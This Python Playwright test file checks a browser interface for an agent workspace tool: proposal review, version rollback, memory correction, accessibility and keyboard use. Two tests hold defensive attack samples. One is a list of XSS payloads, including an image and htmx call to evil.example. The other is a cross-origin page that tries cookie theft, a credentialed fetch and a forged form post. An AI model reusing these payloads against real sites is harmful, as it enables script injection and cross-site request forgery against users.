"""The work of people on the page, in a real browser."""

import re
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import pytest

from clawgit.web import page_server
from clawgit.web.page_server import PAGES
from tests.web.test_pages import STATES

SCRIPTS = pytest.mark.parametrize("scripts", [True, False], ids=["with scripts", "without"])


@pytest.fixture
def full(full, commands):
    """A workspace with something on every page, and in two states of mind."""
    commands("soul edit", "Calm, plain and dry.", replace="Calm and plain.", section="Vibe", why="more of it")
    return full


def soul(space):
    return (space / "SOUL.md").read_text()


@SCRIPTS
def test_a_proposal_is_looked_at_and_accepted(tabs, full, scripts):
    tab = tabs(full, java_script_enabled=scripts)
    tab.page.click("nav >> text=inbox")
    tab.page.wait_for_selector("h1:has-text('Inbox')")  # today names the proposal, too
    tab.page.click("a:has-text('Be kind.')")
    tab.page.wait_for_selector("article h2:has-text('Be kind.')")
    tab.page.click("text=Accept…")
    tab.page.fill("#code", tab.code)
    tab.page.click("button:has-text('Accept it')")
    tab.page.wait_for_selector("text=Done.")
    assert "- Be kind." in soul(full)
    tab.page.click("text=Go on")
    assert "Be kind." not in tab.main


@SCRIPTS
def test_a_proposal_is_rejected_with_a_reason(tabs, full, commands, scripts):
    tab = tabs(full, java_script_enabled=scripts)
    (item,) = commands("inbox", kind="identity").rows
    tab.go("inbox", item=item["id"])
    tab.page.fill("input[name=why]", "only in tests")
    tab.page.click("button:has-text('Reject')")
    tab.page.wait_for_selector("text=Done.")
    assert commands("inbox", kind="identity").rows == []


@SCRIPTS
def test_a_version_is_looked_at_and_taken_back(tabs, full, scripts):
    tab = tabs(full, java_script_enabled=scripts)
    tab.page.click("nav >> text=soul")
    tab.page.click("a[data-item]:has-text('Be brief.')")
    tab.page.wait_for_selector("article h2:has-text('Be brief.')")
    assert "asked for" in tab.page.inner_text("article")
    tab.page.click("text=Take this change back…")
    tab.page.wait_for_selector("#code")
    assert "Be brief." in soul(full)
    tab.page.fill("#code", tab.code)
    tab.page.click("button:has-text('Take the change back')")
    tab.page.wait_for_selector("text=Done.")
    assert "Be brief." not in soul(full)


@SCRIPTS
def test_a_contradiction_is_decided(tabs, full, commands, scripts):
    tab = tabs(full, java_script_enabled=scripts)
    (item,) = commands("inbox", kind="conflict").rows
    tab.go("inbox", item=item["id"])
    tab.page.click("ol.sides li:nth-child(2) button")
    tab.page.wait_for_selector("text=Done.")
    assert commands("inbox", kind="conflict").rows == []


@SCRIPTS
def test_words_are_searched_and_followed_to_their_reason(tabs, full, scripts):
    tab = tabs(full, java_script_enabled=scripts)
    tab.page.click("nav >> text=search")
    tab.page.fill("input[name=q]", "relay port")
    tab.page.click("main >> button:has-text('Search')")
    tab.page.wait_for_selector("ol.entries a")
    assert "8080" in tab.main
    tab.page.click("ol.entries a >> nth=0")
    tab.page.wait_for_selector("text=Why this line stands")


@SCRIPTS
def test_a_memory_is_corrected(tabs, full, scripts):
    tab = tabs(full, java_script_enabled=scripts)
    tab.go("memory", q="9090")
    tab.page.click("ol.entries a")
    tab.page.fill("textarea[name=text]", "The relay listens on port 9443.")
    tab.page.click("text=Correct it")
    tab.page.wait_for_selector("text=Done.")
    assert "port 9443" in (full / "MEMORY.md").read_text()


@SCRIPTS
def test_every_page_is_there_and_nothing_is_asked_of_anybody_else(tabs, full, scripts):
    tab = tabs(full, java_script_enabled=scripts)
    for name in PAGES:
        answer = tab.go(name, **STATES.get(name, {}))
        assert answer.status in (200, 400), name
    assert {url.split("/")[2] for url in tab.asked if not url.startswith("data:")} == {tab.site.authority}
    assert [line for line in tab.said if "400" not in line] == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(tabs, full, commands, scheme):
    tab = tabs(full, color_scheme=scheme)
    states = {**STATES, "memory/entry": {"id": commands("memory list").rows[0]["id"]}, "soul": {"as_of": "HEAD~1"}}
    for name in PAGES:
        tab.go(name, **states.get(name, {}))
        assert tab.accessible() == [], name
    tab.go("inbox")
    for href in [row.get_attribute("href") for row in tab.page.query_selector_all("ol.versions a")]:
        tab.page.goto(f"http://{tab.site.authority}{href}")
        assert tab.accessible() == [], href
    tab.go("soul")
    tab.page.click("text=Take this change back…")
    tab.page.wait_for_selector("#code")
    assert tab.accessible() == []


def test_at_400_pixels_nothing_runs_over_the_edge(tabs, full):
    tab = tabs(full, viewport={"width": 400, "height": 800})
    for name in PAGES:
        tab.go(name, **STATES.get(name, {}))
        assert tab.page.evaluate("document.documentElement.scrollWidth") <= 400, name


def test_keys_go_along_the_inbox_and_decide(tabs, full):
    from playwright.sync_api import expect  # noqa: PLC0415 - an installation of its own

    tab = tabs(full)
    tab.go("inbox")
    current = tab.page.locator("[aria-current=true] .subject")
    first = current.inner_text()
    tab.page.keyboard.press("j")
    expect(current).not_to_have_text(first)
    tab.page.keyboard.press("k")
    expect(current).to_have_text(first)
    tab.go("soul")
    tab.page.keyboard.press("r")
    tab.page.wait_for_selector("#code")
    tab.go("memory")
    tab.page.keyboard.press("/")
    assert tab.page.evaluate("document.activeElement.name") == "q"


def test_a_keyboard_alone_reaches_everything(tabs, full):
    tab = tabs(full)
    tab.page.keyboard.press("Tab")
    assert tab.page.evaluate("document.activeElement.className") == "skip"
    texts = set()
    for _ in range(30):
        tab.page.keyboard.press("Tab")
        texts.add(tab.page.evaluate("document.activeElement.innerText"))
    assert {"today", "inbox", "soul", "memory", "search"} <= texts


def test_the_slider_goes_to_a_version(tabs, full):
    tab = tabs(full)
    tab.go("soul")
    tab.page.focus("#at")
    tab.page.keyboard.press("Home")
    tab.page.wait_for_url(re.compile("at=1"))
    assert "Version 1 of" in tab.main


def test_back_and_forward_go_along_the_versions(tabs, full):
    tab = tabs(full)
    tab.go("soul")
    now = tab.page.inner_text("article h2")
    tab.page.click("a[data-item]:has-text('Be brief.')")
    tab.page.wait_for_selector("article h2:has-text('Be brief.')")
    tab.page.go_back()
    tab.page.wait_for_selector(f"article h2:has-text({now!r})")


def test_hostile_text_stays_text(tabs, space, commands):
    attacks = (
        "<script>document.title = 'taken'</script>",
        "<img src=http://evil.example/x onerror=\"document.title='taken'\">",
        "<svg onload=\"document.title='taken'\">",
        "<div hx-get='http://evil.example' hx-trigger='load'>",
        "<a href=\"javascript:document.title='taken'\">click</a>",
    )
    body = "".join(f"- {attack}\n" for attack in attacks)
    (space / "SOUL.md").write_text(f"{soul(space)}\n## <b>x</b>\n\n{body}")
    (space / "MEMORY.md").write_text(f"# Memory\n\n## Knowledge\n\n{body}")
    (space / "memory").mkdir(exist_ok=True)
    (space / "memory" / "<img src=x onerror=alert(1)>.md").write_text(body)
    subprocess.run(["git", "add", "-A"], cwd=space, check=True)
    subprocess.run(["git", "commit", "-qm", attacks[0]], cwd=space, check=True)
    tab = tabs(space)
    tab.page.on("dialog", lambda dialog: tab.said.append(f"error: dialog {dialog.message}"))
    for name in PAGES:
        tab.go(name, q="script title", text="script", line="SOUL.md:16", story="1")
        assert "taken" not in tab.page.title()
        assert tab.page.query_selector("main img, main svg[onload], main [hx-get], main a[href^=javascript]") is None
    assert {url.split("/")[2] for url in tab.asked if not url.startswith("data:")} == {tab.site.authority}
    assert [line for line in tab.said if line.startswith("error") and "400" not in line] == []


class Elsewhere(BaseHTTPRequestHandler):
    """A page on another port of this machine: it tries all means of a page, and notes the answers."""

    got: ClassVar[list[str]] = []
    target = ""

    def do_GET(self):
        """Answer with the attack."""
        self.got.append(self.headers.get("cookie", ""))
        page = f"""<!doctype html><title>elsewhere</title><body><script>
        document.cookie = "clawgit=evil; path=/";
        const out = [];
        const tell = () => document.title = out.join(" ");
        fetch("{self.target}search?q=secret", {{credentials: "include", mode: "no-cors"}})
          .then(a => out.push("fetch:" + a.type), () => out.push("fetch:refused")).then(tell);
        const image = new Image(); image.onload = () => {{ out.push("image:loaded"); tell(); }};
        image.onerror = () => {{ out.push("image:refused"); tell(); }}; image.src = "{self.target}today";
        const frame = document.createElement("iframe"); frame.src = "{self.target}inbox"; document.body.append(frame);
        </script><form method="post" action="{self.target}act/reject"><input name="id" value="none">
        <input name="why" value="x"><button>send</button></form></body>""".encode()
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def log_message(self, *_):
        """Say nothing."""


def test_another_port_gets_no_cookie_reads_nothing_and_does_nothing(tabs, full, commands):
    tab = tabs(full)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    Elsewhere.got.clear()
    Elsewhere.target = f"http://{tab.site.authority}{tab.site.sessions.root}"
    before = commands("inbox", kind="identity").rows
    try:
        other = tab.page.context.new_page()
        other.goto(f"http://127.0.0.1:{server.server_address[1]}/")
        other.wait_for_function("document.title.includes('image:') && document.title.includes('fetch:')")
        assert "image:refused" in other.title()
        assert not any("clawgit=" in sent and "evil" not in sent for sent in Elsewhere.got)
        other.click("text=send")
        other.wait_for_load_state()
        assert "not sent by a page of ours" in other.inner_text("body")
        (frame,) = other.frames[1:] or [None]
        assert frame is None or "<h1>Inbox" not in frame.content()
    finally:
        server.shutdown()
        server.server_close()
    assert commands("inbox", kind="identity").rows == before
    tab.go("today")  # the cookie that was set for every path shuts nobody out
    assert "Today" in tab.main


def test_the_file_that_opens_the_browser_leads_to_the_page(tabs, full):
    tab = tabs(full, enter=False)
    with page_server.opening_file(tab.site) as path:
        tab.page.goto(path.as_uri())
        tab.page.wait_for_selector("main h1:has-text('Today')")
        assert tab.site.sessions.token not in tab.page.url
    late = tabs(site=tab.site, enter=False)
    late.page.goto(page_server.address(tab.site))
    late.page.click("text=Open the page")
    late.page.wait_for_selector("text=was used already")


def test_an_export_opens_from_a_file_and_asks_for_nothing(tabs, full, tmp_path):
    from clawgit.web import page_server  # noqa: PLC0415 - an extra

    tab = tabs(full)
    target = tmp_path / "page.html"
    page_server.export(tab.site, target)
    tab.page.goto("about:blank")
    tab.page.wait_for_load_state("networkidle")
    tab.asked.clear()
    tab.page.goto(target.as_uri())
    assert "Be brief." in tab.page.inner_text("body")
    assert [url for url in tab.asked if url != target.as_uri() and not url.startswith("data:")] == []
    assert tab.accessible() == []


def test_of_two_quick_clicks_the_later_one_is_followed(tabs, full):
    tab = tabs(full, java_script_enabled=True)
    for first, later in (("inbox", "memory"), ("memory", "soul"), ("soul", "inbox")):
        links = "[...document.querySelectorAll('nav li a')]"
        click = f"names => names.forEach(name => {links}.find(one => one.text === name).click())"
        tab.page.evaluate(click, [first, later])
        tab.page.wait_for_selector(f"nav a[aria-current=page]:text-is('{later}')")
        tab.page.wait_for_timeout(700)
        assert tab.page.inner_text("nav a[aria-current=page]") == later
